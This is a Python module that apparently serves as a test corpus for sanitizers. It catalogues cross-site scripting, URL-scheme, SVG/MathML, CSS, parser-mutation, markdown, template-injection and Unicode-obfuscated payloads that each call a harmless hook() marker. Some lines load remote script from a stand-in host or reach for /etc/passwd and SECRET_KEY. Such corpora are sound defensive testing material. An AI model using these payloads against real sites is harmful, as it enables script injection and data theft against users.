"""Texts that try to run something in a page. Each would call `hook()`, or open a dialog, if it did.

Written by kind, so that a new trick finds its place: more of a kind proves less than another kind.
"""

SCRIPTS = (
    "<script>hook()</script>",
    "<SCRIPT>hook()</SCRIPT>",
    "<script src=data:,hook()></script>",
    "<scr<script>ipt>hook()</scr</script>ipt>",
    "<script type=module>hook()</script>",
    "<script\x0c>hook()</script>",
    "</script><script>hook()</script>",
    "<script>/*</script><script>*/hook()</script>",
    "<script x='>'>hook()</script>",
    '"><script>hook()</script>',
    "'><script>hook()</script>",
    "</title><script>hook()</script>",
    "</textarea><script>hook()</script>",
    "<!--><script>hook()</script>-->",
    "<noscript><p title='</noscript><script>hook()</script>'>",
    "<script async src='//hook.example/x.js'></script>",
)

HANDLERS = (
    "<img src=x onerror=hook()>",
    "<img src=x onerror='hook()'>",
    "<IMG SRC=x OnErRoR=hook()>",
    "<img/src=x/onerror=hook()>",
    "<img src=x:x onerror\n=hook()>",
    "<img src='x'onerror=hook()>",
    "<body onload=hook()>",
    "<input autofocus onfocus=hook()>",
    "<details open ontoggle=hook()>x</details>",
    "<video><source onerror=hook()></video>",
    "<audio src=x onerror=hook()>",
    "<b onmouseover=hook()>over</b>",
    "<div onpointerenter=hook()>over</div>",
    "<a href=# onclick=hook()>click</a>",
    "<button onfocus=hook() autofocus>x</button>",
    "<form onsubmit=hook()><input type=submit></form>",
    "<marquee onstart=hook()>x</marquee>",
    "<select autofocus onfocus=hook()></select>",
    "<style onload=hook()></style>",
    "<p tabindex=0 onfocus=hook() id=x>x</p>",
    "<div style=animation-name:breathe onanimationstart=hook()>x</div>",
    "<x contenteditable onblur=hook()>x</x>",
    "<img srcset=x onerror=hook()>",
    "<link rel=stylesheet href=data:, onload=hook()>",
    '" onmouseover="hook()',
    "' onfocus='hook()' autofocus='",
    "x` onerror=`hook()",
    "<dialog open onclose=hook()><form method=dialog>",
)

ADDRESSES = (
    "[a](javascript:hook())",
    "[a](JaVaScRiPt:hook())",
    "[a](java\tscript:hook())",
    "[a](<java\nscript:hook()>)",
    "[a](&#106;avascript:hook())",
    "[a](&#x6A;avascript:hook())",
    "[a](javascript&colon;hook())",
    "[a](javascript&#58;hook())",
    "[a](java%0ascript:hook())",
    "[a](\x01javascript:hook())",
    "[a]( javascript:hook())",
    "[a](javascript://%0ahook())",
    "[a](data:text/html,<script>hook()</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5ob29rKCk8L3NjcmlwdD4=)",
    "[a](vbscript:hook())",
    "[a](blob:null/hook)",
    "[a](file:///etc/passwd)",
    "[a](//hook.example)",
    "<javascript:hook()>",
    "<data:text/html,hook()>",
    "javascript:hook()",
    "JAVASCRIPT:hook()//https://example.org",
    "data:text/html,<script>hook()</script>",
    'https://example.org"onclick="hook()',
    "https://example.org/<img src=x onerror=hook()>",
    "<a href=javascript:hook()>x</a>",
    "<a href='&#1;javascript:hook()'>x</a>",
    "<a href='jav&#x09;ascript:hook()'>x</a>",
    "<form action=javascript:hook()><button>x</button></form>",
    "<button formaction=javascript:hook()>x</button>",
    "<base href=javascript:hook()//>",
    "<meta http-equiv=refresh content='0;url=javascript:hook()'>",
    "<meta http-equiv=refresh content='0;url=//hook.example'>",
    "<object data=javascript:hook()></object>",
    "<embed src=data:text/html,hook()>",
)

FOREIGN = (
    "<svg onload=hook()>",
    "<svg><script>hook()</script></svg>",
    "<svg><script>hook&#40;&#41;</script></svg>",
    "<svg><a xlink:href=javascript:hook()><text>x</text></a></svg>",
    "<svg><animate onbegin=hook() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hook()>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hook()>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>hook()</script>'>",
    "<svg><image href=x onerror=hook()>",
    "<svg><style><img src=x onerror=hook()></style></svg>",
    "<math><mtext><script>hook()</script></mtext></math>",
    "<math href=javascript:hook()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:hook()>x",
    "<iframe srcdoc='<script>parent.hook()</script>'></iframe>",
    "<iframe src=javascript:parent.hook()></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.hook()&lt;/script&gt;></iframe>",
    "<template><script>hook()</script></template>",
    "<portal src=//hook.example>",
)

STYLES = (
    "<style>@import '//hook.example/x.css';</style>",
    "<style>body{background:url(//hook.example)}</style>",
    "<p style='background:url(javascript:hook())'>x</p>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    "<div style='behavior:url(#hook)'>x</div>",
    "<link rel=stylesheet href=//hook.example/x.css>",
    "<p style=width:expression(hook())>x</p>",
    "</style><script>hook()</script>",
)

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hook()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hook()>'>",
    "<noscript><style></noscript><img src=x onerror=hook()></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hook()>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=hook()>",
    "<svg><title><style><img src=x onerror=hook()></style></title></svg>",
    "<table><td><form><svg><td></form><img src=x onerror=hook()>",
    "<xmp><p title='</xmp><img src=x onerror=hook()>'>",
    "<listing>&lt;img src=x onerror=hook()&gt;</listing>",
    "<a name=body><a name=cookie><img name=getElementById>",
    "<input name=attributes><input name=children>",
    "<p id=announcer>x</p><p id=turns>x</p>",
    "<select><template><style><!--</style><a rel='--><img src=x onerror=hook()>'>",
)

MARKDOWN = (
    "![x](x onerror=hook())",
    '![x"onerror="hook()](https://example.org/x.png)',
    '[a](https://example.org "onmouseover=hook()")',
    "[a](https://example.org '\" onmouseover=hook() x=\"')",
    "[a][b]\n\n[b]: javascript:hook()",
    "[![x](javascript:hook())](javascript:hook())",
    "`<img src=x onerror=hook()>`",
    '~~~"onload=hook()\n<img src=x onerror=hook()>\n~~~',
    '<https://example.org/"onmouseover=hook()>',
    "| <img src=x onerror=hook()> |\n|---|\n| <script>hook()</script> |",
    "# <img src=x onerror=hook()>",
    "> <script>hook()</script>",
    "- <svg/onload=hook()>",
    "*<img src=x onerror=hook()>*",
    "&lt;script&gt;hook()&lt;/script&gt;",
    "\\<script>hook()\\</script>",
    '<sup data-cite="0" onclick=hook()>x</sup>',
    "\u2e000\u2e00<img src=x onerror=hook()>",
)

TEMPLATES = (
    "{{7*7}}{{constructor.constructor('hook()')()}}",
    "{% load x %}{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "${hook()}",
    "#{hook()}",
    "<%= hook() %>",
    "[[${hook()}]]",
    "{{'<img src=x onerror=hook()>'|safe}}",
)

UNICODE = (
    "\uff1cscript\uff1ehook()\uff1c/script\uff1e",
    "<\u200bscript>hook()</script>",
    "\u202e<script>hook()</script>\u202c",
    "<img src=x on\u200derror=hook()>",
    "<scr\u0131pt>hook()</scr\u0131pt>",
    "\ufeff<script>hook()</script>",
    "\u02bascript\u02ba onload=hook()",
    "<img src=x onerror=\u2028hook()>",
    "%3Cscript%3Ehook()%3C/script%3E",
    "\\u003cscript\\u003ehook()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=hook()\\x3e",
)

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *FOREIGN,
    *STYLES,
    *MUTATIONS,
    *MARKDOWN,
    *TEMPLATES,
    *UNICODE,
)

_BATCH = 32
BATCHES = tuple(PAYLOADS[start : start + _BATCH] for start in range(0, len(PAYLOADS), _BATCH))


def question_of(number: int) -> str:
    """The question that holds a whole batch, and is answered with it."""
    return f"payloads {number}\n" + "\n".join(BATCHES[number])
